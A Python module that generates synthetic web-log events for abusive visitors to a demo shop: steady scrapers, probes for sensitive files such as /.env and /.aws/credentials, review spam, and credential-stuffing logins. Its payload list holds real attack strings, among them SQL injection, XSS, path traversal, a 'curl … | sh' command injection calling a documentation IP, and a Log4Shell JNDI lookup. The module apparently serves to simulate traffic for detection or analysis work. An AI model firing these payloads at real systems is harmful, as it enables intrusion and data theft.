"""Abusive behaviours: scrapers, scanners, form spammers and credential stuffers."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from urllib.parse import quote_plus

from streams.demo.shop import CATEGORIES, ITEMS, item_path
from streams.demo.visitor import Act, act, chance, think_s

MEAN_SCRAPES = 60.0
MEAN_PROBES = 30.0
MEAN_SPAMS = 10.1
MEAN_ATTEMPTS = 8.0

_PROBES = (
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/server-status",
    "/actuator/env",
    "/backup.sql",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test.cgi",
    "/solr/admin/info/system",
)
_PAYLOADS = (
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE orders; --",
    "1 AND SLEEP(5)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://203.0.113.9/x.sh | sh)",
    "{{7*7}}",
    "${jndi:ldap://203.0.113.9/a}",
)
_SPAM_TITLES = ("BEST PRICE pills online", "You won't believe this casino bonus", "Earn $5000 weekly from home!!!")
_SPAM_TEXTS = (
    "Cheap viagra and cialis without prescription, worldwide shipping, order now at {link} and save 80%!!!",
    "Play online casino with 500 free spins, no deposit bonus, click here {link} to win big money today",
    "Make money fast: I earn $5,000 every week working from home, ask me how at {link} limited time offer",
    "Buy backlinks and rank first on every search engine, 100% guaranteed SEO service, visit {link} {link}",
    "Your crypto doubled in 24 hours, guaranteed investment, send bitcoin, act now {link}",
)


def scrapes(random: Random) -> Iterator[Act]:
    """Requests one item after another at even intervals, without clicks or purchases."""
    interval_s = random.uniform(0.8, 2.5)
    at = random.randrange(len(ITEMS))
    for number in range(random.randrange(20, 101)):
        item = ITEMS[(at + number) % len(ITEMS)]
        after_s = interval_s * random.uniform(0.97, 1.03) if number else 0.0
        yield act(after_s, "page_view", item_path(item), item_id=item, bytes=random.randrange(20_000, 40_000))


def probes(random: Random) -> Iterator[Act]:
    """Requests files that a site should not serve, and sends code in search fields."""
    for number in range(random.randrange(15, 46)):
        after_s = random.uniform(0.2, 1.2) if number else 0.0
        if chance(random, 0.5):
            yield act(after_s, "page_view", random.choice(_PROBES), status=random.choice((404, 404, 403)), bytes=310)
            continue
        payload = random.choice(_PAYLOADS)
        path = random.choice(("/search?q=", f"/c/{random.choice(CATEGORIES)}?sort=", "/products?id="))
        status = random.choice((200, 400, 500, 404))
        yield act(after_s, "page_view", path + quote_plus(payload), status=status, bytes=900)


def spams(random: Random) -> Iterator[Act]:
    """Opens pages with forms, and posts text with links within about a second."""
    for number in range(random.randrange(2, 9)):
        path = f"{item_path(random.choice(ITEMS))}/reviews"
        yield act(random.uniform(2.0, 6.0) if number else 0.0, "page_view", path, bytes=21_000)
        link = f"http://{random.choice(('pills', 'spins', 'cash', 'links'))}-{random.randrange(1_000)}.example/go"
        yield act(
            random.uniform(0.5, 1.5),
            "post",
            path,
            method="POST",
            status=201,
            title=random.choice(_SPAM_TITLES),
            text=random.choice(_SPAM_TEXTS).format(link=link),
        )


def attempts(random: Random) -> Iterator[Act]:
    """Tries a few leaked passwords, each on another account; the visitor then drops its cookie."""
    interval_s = random.uniform(0.6, 2.0)
    for number in range(random.randrange(4, 13)):
        after_s = interval_s * random.uniform(0.9, 1.1) if number else 0.0
        account = f"leaked-{random.randrange(5_000)}"
        is_right = chance(random, 0.02)
        status = 302 if is_right else 401
        yield act(after_s, "login", "/login", method="POST", status=status, account_id=account, bytes=640)
        if is_right:
            yield act(think_s(random, 1.5), "page_view", "/account/cards", account_id=account)
